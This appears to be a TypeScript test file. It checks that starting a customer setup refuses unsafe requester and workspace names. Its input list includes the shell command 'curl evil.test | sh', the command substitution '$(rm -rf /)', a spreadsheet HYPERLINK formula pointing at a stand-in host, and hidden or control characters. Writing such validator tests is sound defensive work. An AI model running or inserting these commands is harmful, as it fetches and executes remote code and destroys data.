import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openTestDesk, type TestDesk } from '#lib/db/test-desk.test-support.ts';
import { aCustomer, aJourney, BY } from './setup.test-support.ts';
import { startSetup } from './start-setup.ts';

let desk: TestDesk;
beforeAll(async () => {
  desk = await openTestDesk({ oldKeys: false });
});
afterAll(() => desk.close());

const HOSTILE = [
  ['a formula', '=HYPERLINK("http://evil.test")'],
  ['a command', 'curl evil.test | sh'],
  ['a substitution', '$(rm -rf /)'],
  ['a second line that is a formula', 'Dana\n=1+1'],
  ['text that is turned around', 'Dana \u202Etxet'],
  ['an escape sequence', 'Dana \u001B[31m'],
  ['a letter without a shape', 'Da\u200Bna'],
  ['a filler', 'Dana \u3164'],
  ['an AWS account', 'Dana 999988887777'],
  ['an AWS account in digits of another script', 'Dana ٩٩٩٩٨٨٨٨٧٧٧٧'],
  ['an ARN', 'arn:aws:iam::999988887777:root'],
  ['a tag', 'Dana <dana@acme.test>'],
] as const;

describe('starting a setup', () => {
  it.each(HOSTILE)(
    'H6 refuses %s as a name, which would stop every text of the setup for good',
    async (_what, name) => {
      const { deps } = aJourney(desk.db);
      const customerId = await aCustomer(desk.db, deps.clock());
      const start = (askedBy: string, workspace: string) =>
        startSetup(
          deps,
          {
            customerId,
            ticket: null,
            askedBy: { contactId: null, name: askedBy },
            workspaces: [{ name: workspace, region: 'eu-west-1' }],
          },
          BY,
        );
      expect(await start(name, 'main')).toEqual({ ok: false, reason: 'unsafe_name' });
      expect(await start('Dana Ruiz', name)).toEqual({ ok: false, reason: 'unsafe_name' });
      expect(await start('Dana Ruiz', 'main')).toMatchObject({ ok: true });
    },
  );
});
